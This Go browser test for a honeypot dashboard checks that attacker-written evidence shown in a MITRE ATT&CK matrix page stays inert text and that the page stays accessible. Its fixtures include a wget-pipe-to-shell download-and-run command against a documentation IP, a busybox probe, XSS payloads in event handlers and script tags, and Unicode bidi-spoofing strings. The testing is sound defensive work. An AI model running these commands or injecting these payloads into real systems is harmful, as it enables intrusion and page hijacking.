//go:build browser

package api_test

import (
	"flag"
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"ttp-worker/api"
	"ttp-worker/attack"
	"ttp-worker/internal/browser"
	"ttp-worker/internal/testdb"
	"ttp-worker/sink"
	"ttp-worker/ttp"
)

// shots is where screenshots go: make page-check SHOTS=DIR.
var shots = flag.String("shots", "", "directory for screenshots; empty means none")

const ready = `document.documentElement.dataset.ready === "yes" && document.querySelector("#live").dataset.state === "on"`

// evidences are what attackers may write.
var evidences = []string{
	`cat /proc/mounts; /bin/busybox JELUY`,
	`wget -q http://203.0.113.9/x.sh -O- | sh`,
	`<script>document.title="owned"</script><img src=x onerror=alert(1)>`,
	`]]>--><svg/onload=alert(1)>`,
	"echo \u202egnp.exe\u202c \u2066hidden\u2069 \u200bzero\x00\x1b[31mred",
	`"'` + "`" + `${alert(1)}{{7*7}}`,
	strings.Repeat("A", 4096),
	strings.Repeat("ﷺ名😀 ", 300),
}

// sights is a database with tags of some techniques.
func sights(t *testing.T) *sink.DB {
	t.Helper()
	return seen(t, 8, 4000)
}

// crowded is one with tags of 300.
func crowded(t *testing.T) *sink.DB {
	t.Helper()
	return seen(t, 2, 9000)
}

// seen is a database with tags of one in so many techniques.
func seen(t *testing.T, oneIn, n int) *sink.DB {
	t.Helper()
	db, err := sink.Open(testdb.SQLite(t), sink.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = db.Close() })
	if err := db.Migrate(t.Context()); err != nil {
		t.Fatal(err)
	}
	if err := db.CreateIdentities(t.Context(), []string{identity}); err != nil {
		t.Fatal(err)
	}
	if err := db.CreateAttackers(t.Context(), []ttp.Attacker{{UUID: attacker, Address: "198.51.100.7", IdentityUUID: identity}}); err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewPCG(3, 4))
	var known []attack.Technique
	for _, tech := range attack.Techniques() {
		if !tech.Revoked && rng.IntN(oneIn) == 0 {
			known = append(known, tech)
		}
	}
	rng.Shuffle(len(known), func(i, j int) { known[i], known[j] = known[j], known[i] })
	arrived := ttp.Tagged{AttackerUUID: attacker, IdentityUUID: identity}
	for n := range n {
		tech := known[int(rng.ExpFloat64()*float64(len(known))/8)%len(known)]
		f := ttp.Finding{
			Claim: &ttp.Claim{
				RuleID: fmt.Sprintf("R%04d", rng.IntN(40)), RuleVersion: 1, Tactic: tech.Tactics[rng.IntN(len(tech.Tactics))],
				Technique: tech.ID, AttackRelease: attack.Release, MitreURL: tech.URL,
			},
			Confidence: []float64{0.4, 0.7, 0.9}[rng.IntN(3)],
			Evidence:   ttp.Object{{Name: "command_text", Value: ttp.Quote(evidences[n%len(evidences)])}, {Name: `<b onmouseover=alert(1)>`, Value: ttp.Quote("x")}},
		}
		if tech.Parent != "" {
			f.Technique, f.SubTechnique = tech.Parent, tech.ID
		}
		ev := &ttp.Event{
			Kind: ttp.Command, SourceID: fmt.Sprint(n), AttackerUUID: attacker, IdentityUUID: identity,
			SessionID: "s\u202e<i>1", DeckyID: []string{"web-01", "db-<b>02", "mail"}[n%3],
		}
		arrived.Tags = append(arrived.Tags, ttp.NewTag(ev, f))
	}
	if _, err := db.Write(t.Context(), []ttp.Tagged{arrived}); err != nil {
		t.Fatal(err)
	}
	return db
}

type view struct {
	width, height int
	scheme        string
}

func (v view) String() string { return fmt.Sprintf("%d-%s", v.width, v.scheme) }

var views = []view{{1280, 800, "light"}, {1280, 800, "dark"}, {390, 844, "light"}, {390, 844, "dark"}}

func shoot(p *browser.Page, name string) {
	if *shots != "" {
		p.Screenshot(filepath.Join(*shots, name+".png"))
	}
}

// TestPage_inABrowser walks through the page as a person does, on what
// attackers wrote.
func TestPage_inABrowser(t *testing.T) {
	feed := &api.Feed{}
	s := server(t, &api.Handler{Service: &api.Service{Store: sights(t)}, Feed: feed})
	for _, v := range views {
		t.Run(v.String(), func(t *testing.T) {
			p := browser.Open(t, v.width, v.height, v.scheme)
			p.Go(s.URL, ready)
			shoot(p, v.String()+"-matrix")
			if got := p.Eval(`document.documentElement.scrollWidth - innerWidth`); got.(float64) > 0 {
				t.Errorf("the page is %v pixels wider than the screen", got)
			}
			nothingRan(t, p)
			legible(t, p)
			accessible(t, p, "the matrix")
			named(t, p)
			keyboard(t, p, v)
			filter(t, p, v)
			live(t, p, feed, v)
			nothingRan(t, p)
		})
	}
}

// nothingRan makes sure that what attackers wrote stayed text.
func nothingRan(t *testing.T, p *browser.Page) {
	t.Helper()
	if got := p.Eval(`document.title`); strings.Contains(got.(string), "owned") {
		t.Error("a script of an attacker ran")
	}
	if got := p.Eval(`document.querySelectorAll("script:not([src]), img, svg, i, style, [onerror], [onload], [onmouseover]").length`); got.(float64) != 0 {
		t.Errorf("%v elements are an attacker's", got)
	}
	if problems := p.Problems(); len(problems) > 0 {
		t.Errorf("the page complains: %.2000q", problems)
	}
}

// leastContrast returns the least contrast between text and what is behind it,
// as WCAG counts it, of the cells, and the name of the cell.
const leastContrast = `(() => {
	const light = (c) => { const [r, g, b] = c.match(/[\d.]+/g).slice(0, 3).map((v) => (v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
		return 0.2126 * r + 0.7152 * g + 0.0722 * b };
	const found = [...document.querySelectorAll(".cell")].map((cell) => {
		const style = getComputedStyle(cell), [a, b] = [light(style.color), light(style.backgroundColor)];
		return [(Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05), "heat " + cell.dataset.heat];
	});
	return found.sort((a, b) => a[0] - b[0])[0];
})()`

// legible makes sure that people with weak eyes can read the matrix, too.
func legible(t *testing.T, p *browser.Page) {
	t.Helper()
	least := p.Eval(leastContrast).([]any)
	if least[0].(float64) < 4.5 {
		t.Errorf("%v has a contrast of %.2f, want 4.5", least[1], least[0])
	}
	if nameless := p.Eval(`[...document.querySelectorAll("button, input:not([type=checkbox]), select")].filter(e => !e.labels?.length && !e.ariaLabel && !e.textContent.trim()).length`); nameless != 0.0 {
		t.Errorf("%v controls have no name", nameless)
	}
}

// keyboard opens the tags of a technique without a mouse.
func keyboard(t *testing.T, p *browser.Page, v view) {
	t.Helper()
	p.Eval(`document.querySelector("button.cell[tabindex='0']").focus()`)
	p.Key("ArrowDown")
	p.Key("ArrowRight")
	if got := p.Eval(`document.activeElement.matches("button.cell[tabindex='0']") && document.querySelectorAll("button.cell[tabindex='0']").length`); got != 1.0 {
		t.Errorf("the arrow keys leave the matrix, or Tab leads to %v cells", got)
	}
	p.Eval(`[...document.querySelectorAll("button.cell[data-heat='8']")][0].focus()`)
	key := p.Eval(`document.activeElement.dataset.key`)
	p.Key("Enter")
	p.Until(`document.querySelectorAll("#drawer .tags li").length >= 8`)
	shoot(p, v.String()+"-drawer")
	accessible(t, p, "the drawer")
	if got := p.Eval(`document.querySelector("#drawer").scrollWidth <= innerWidth && document.querySelector("#drawer-body").scrollWidth <= document.querySelector("#drawer-body").clientWidth`); got != true {
		t.Error("the drawer is wider than it may be")
	}
	if got := p.Eval(`[...document.querySelectorAll("#drawer .mark")].some(m => m.textContent === "U+202E") && !/[\u202e\u2066\u200b\u0000\u001b]/.test(document.body.textContent)`); got != true {
		t.Error("what reorders text is not made visible")
	}
	if got := p.Eval(`document.querySelector("#drawer a").href`); !strings.HasPrefix(fmt.Sprint(got), "https://attack.mitre.org/techniques/") {
		t.Errorf("the link leads to %v", got)
	}
	p.Key("Escape")
	p.Until(`!document.querySelector("#drawer").open`)
	if got := p.Eval(`document.activeElement.dataset.key`); got != key {
		t.Errorf("after the drawer %v has the focus, want %v", got, key)
	}
}

// filter narrows what is shown, and widens it again.
func filter(t *testing.T, p *browser.Page, v view) {
	t.Helper()
	before := p.Eval(`document.querySelector("#figure-tags").textContent`)
	set := func(name, value string) {
		p.Eval(fmt.Sprintf(`(() => { const f = document.forms.filters.elements[%q]; f.value = %q; f.dispatchEvent(new Event("input", {bubbles: true})) })()`, name, value))
	}
	set("decky", "mail")
	set("min_confidence", "0.85")
	p.Until(fmt.Sprintf(`document.querySelector("#figure-tags").textContent !== %q && !document.querySelector("#matrix").ariaBusy`, before))
	if got := p.Eval(`location.hash`); !strings.Contains(got.(string), "decky=mail") {
		t.Errorf("the address %v does not say the filter", got)
	}
	shoot(p, v.String()+"-filtered")
	set("decky", "no such decky")
	p.Until(`!document.querySelector("#empty").hidden`)
	shoot(p, v.String()+"-empty")
	p.Eval(`document.querySelector("#clear").click()`)
	p.Until(fmt.Sprintf(`document.querySelector("#figure-tags").textContent === %q`, before))
	set("domain", "ics-attack")
	p.Until(`document.querySelector("[data-tactic='TA0108']")`)
	set("domain", "enterprise-attack")
	p.Until(`document.querySelector("[data-tactic='TA0002']")`)
}

// live shows a tag that is announced.
func live(t *testing.T, p *browser.Page, feed *api.Feed, v view) {
	t.Helper()
	p.Until(`document.querySelectorAll("#ticks li").length > 5`)
	count := `Number(document.querySelector("#figure-tags").textContent.replace(/,/g, ""))`
	before := p.Eval(count).(float64)
	// A technique that is on the page gains one.
	key := strings.Fields(p.Eval(`document.querySelector("button.cell[data-heat='8']").dataset.key`).(string))
	tag := ttp.NewTag(&ttp.Event{Kind: ttp.Command, SourceID: "live", AttackerUUID: attacker}, ttp.Finding{
		Claim:      &ttp.Claim{RuleID: "R0001", RuleVersion: 1, Tactic: key[0], Technique: key[1]},
		Confidence: 0.9, Evidence: ttp.Object{{Name: "command_text", Value: ttp.Quote("announced <b>now</b> \u202e")}},
	})
	if parent, _, isSub := strings.Cut(key[1], "."); isSub {
		tag.Technique, tag.SubTechnique = parent, key[1]
	}
	feed.Tell(&ttp.Tagged{AttackerUUID: attacker, DeckyID: "mail", Tags: []ttp.Tag{tag}}, time.Now())
	p.Until(`document.querySelector("#ticks li").textContent.includes("announced <b>now</b>")`)
	p.Until(fmt.Sprintf(`%s === %v`, count, before+1) + ` || performance.now() > 60000`)
	shoot(p, v.String()+"-live")
	if got := p.Eval(count).(float64); got != before+1 {
		t.Errorf("%v tags are shown, want %v", got, before+1)
	}
}
